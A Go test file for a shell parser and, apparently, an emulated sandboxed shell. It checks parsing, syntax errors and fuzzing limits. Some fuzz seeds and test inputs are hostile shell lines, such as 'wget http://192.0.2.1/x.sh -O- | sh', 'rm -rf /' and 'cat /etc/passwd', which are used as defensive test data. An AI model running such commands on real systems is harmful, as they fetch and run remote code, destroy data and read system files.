package shell

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// shape renders a parsed script compactly: pipelines joined by their
// operators, commands as their texts, and "|" between pipeline stages.
func shape(s Script) []string {
	var out []string
	for _, ao := range s {
		var parts []string
		for i, pl := range ao.Pipelines {
			if i > 0 {
				parts = append(parts, ao.Ops[i-1])
			}
			var stages []string
			for _, cmd := range pl {
				stages = append(stages, cmd.Text)
			}
			parts = append(parts, strings.Join(stages, " | "))
		}
		out = append(out, strings.Join(parts, " "))
	}
	return out
}

func TestParseStructure(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"ls", []string{"ls"}},
		{"  ls -la  ", []string{"ls -la"}},
		{"cd /tmp; ls", []string{"cd /tmp", "ls"}},
		{"a && b || c", []string{"a && b || c"}},
		{"cat f | grep x | wc -l", []string{"cat f | grep x | wc -l"}},
		{"wget x -O- | sh &", []string{"wget x -O- | sh"}},
		{"echo a # comment", []string{"echo a"}},
		{"echo 'a;b' \"c|d\"", []string{"echo 'a;b' \"c|d\""}},
		{"a\nb", []string{"a", "b"}},
		{"echo x > /tmp/f 2>&1", []string{"echo x > /tmp/f 2>&1"}},
		{"", nil},
		{"   ", nil},
	}
	for _, tc := range tests {
		s, err := Parse(tc.line)
		if err != nil {
			t.Errorf("Parse(%q): %v", tc.line, err)
			continue
		}
		if diff := cmp.Diff(tc.want, shape(s)); diff != "" {
			t.Errorf("Parse(%q) (-want +got):\n%s", tc.line, diff)
		}
	}
}

func TestParseWords(t *testing.T) {
	tests := []struct {
		line string
		want []Word
	}{
		{`echo a`, []Word{{{Kind: SegBare, Text: "echo"}}, {{Kind: SegBare, Text: "a"}}}},
		{`'a b'`, []Word{{{Kind: SegLiteral, Text: "a b"}}}},
		{`""`, []Word{{{Kind: SegLiteral}}}},
		{`a\ b`, []Word{{{Kind: SegBare, Text: "a"}, {Kind: SegLiteral, Text: " "}, {Kind: SegBare, Text: "b"}}}},
		{`"x$HOME"`, []Word{{{Kind: SegLiteral, Text: "x"}, {Kind: SegVar, Text: "HOME", Quoted: true}}}},
		{`${A}b`, []Word{{{Kind: SegVar, Text: "A"}, {Kind: SegBare, Text: "b"}}}},
		{`$(uname -a)`, []Word{{{Kind: SegSubst, Text: "uname -a"}}}},
		{"`id`", []Word{{{Kind: SegSubst, Text: "id"}}}},
		{`$? $$`, []Word{{{Kind: SegVar, Text: "?"}}, {{Kind: SegVar, Text: "$"}}}},
		{`cost$`, []Word{{{Kind: SegBare, Text: "cost$"}}}},
		{"\xff\x00", []Word{{{Kind: SegBare, Text: "\xff\x00"}}}},
	}
	for _, tc := range tests {
		s, err := Parse(tc.line)
		if err != nil {
			t.Errorf("Parse(%q): %v", tc.line, err)
			continue
		}
		got := s[0].Pipelines[0][0].Words
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("Parse(%q) words (-want +got):\n%s", tc.line, diff)
		}
	}
}

func TestParseRedirectsAndAssigns(t *testing.T) {
	s, err := Parse(`A=1 B="x y" cmd arg >> out 2>/dev/null < in &> all`)
	if err != nil {
		t.Fatal(err)
	}
	cmd := s[0].Pipelines[0][0]
	var names []string
	for _, a := range cmd.Assigns {
		names = append(names, a.Name)
	}
	if diff := cmp.Diff([]string{"A", "B"}, names); diff != "" {
		t.Errorf("assignments (-want +got):\n%s", diff)
	}
	type redir struct {
		Fd     int
		Op     string
		Target string
	}
	var got []redir
	for _, r := range cmd.Redirs {
		got = append(got, redir{r.Fd, r.Op, r.Target[0].Text})
	}
	want := []redir{{1, ">>", "out"}, {2, ">", "/dev/null"}, {0, "<", "in"}, {-1, ">", "all"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("redirections (-want +got):\n%s", diff)
	}
	if len(cmd.Words) != 2 {
		t.Errorf("words = %d, want 2 (cmd arg)", len(cmd.Words))
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		line      string
		wantToken string
		wantEOF   bool
	}{
		{"| ls", "|", false},
		{"ls &&", "newline", false},
		{"ls ;; x", ";;", false},
		{"(ls)", "(", false},
		{"echo 'open", "", true},
		{`echo "open`, "", true},
		{"echo $(ls", "", true},
		{"echo `ls", "", true},
		{"echo >", "newline", false},
		{"; ls", ";", false},
	}
	for _, tc := range tests {
		_, err := Parse(tc.line)
		var se *SyntaxError
		if !errors.As(err, &se) {
			t.Errorf("Parse(%q) error = %v, want a SyntaxError", tc.line, err)
			continue
		}
		if se.Token != tc.wantToken || se.EOF != tc.wantEOF {
			t.Errorf("Parse(%q) = %+v, want token %q, EOF %v", tc.line, *se, tc.wantToken, tc.wantEOF)
		}
	}
	if _, err := Parse(strings.Repeat("a", MaxLineBytes+1)); err == nil {
		t.Errorf("Parse of %d bytes succeeded, want a length error", MaxLineBytes+1)
	}
}

func FuzzParse(f *testing.F) {
	seeds := []string{
		"ls -la /tmp",
		"cd /tmp; wget http://192.0.2.1/x.sh -O- | sh && chmod +x x || rm -rf x",
		`echo "$(uname -a)" 'lit' \$HOME ${PATH} $? > /dev/null 2>&1`,
		"cat /etc/passwd | grep root | head -n 1 >> out",
		"A=1 B=`id` env",
		"echo \xff\x00\x1b[31m",
		"((((", "$($($(", "'''", `"\`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s, err := Parse(line)
		if err != nil {
			return
		}
		for _, ao := range s {
			if len(ao.Ops) != len(ao.Pipelines)-1 {
				t.Fatalf("Parse(%q): %d operators for %d pipelines", line, len(ao.Ops), len(ao.Pipelines))
			}
			for _, pl := range ao.Pipelines {
				for _, cmd := range pl {
					if !strings.Contains(line, cmd.Text) {
						t.Fatalf("Parse(%q): command text %q is not part of the line", line, cmd.Text)
					}
				}
			}
		}
	})
}

// FuzzRun runs arbitrary lines through a shell: whatever the input, Run
// must return, and the overlay must stay within its caps.
func FuzzRun(f *testing.F) {
	for _, s := range []string{
		"ls; cd /etc && cat passwd | grep root",
		"echo $(echo $(echo $(echo deep)))",
		"sh -c 'sh -c \"sh -c id\"'",
		"echo x > /a; echo y >> /a; cat /a; rm -rf /",
		"wget -qO- http://192.0.2.1/a | sh",
		"echo \xff\x00 > /tmp/\xfe",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		fsys := NewFS(testBase(), 64<<10, 256, nil)
		sh := New(Env{}, fsys)
		var out limitedBuffer
		sh.Run(t.Context(), line, &out, &out)
		if fsys.bytes > 64<<10 || len(fsys.over) > 256 {
			t.Fatalf("overlay grew to %d bytes, %d nodes", fsys.bytes, len(fsys.over))
		}
	})
}
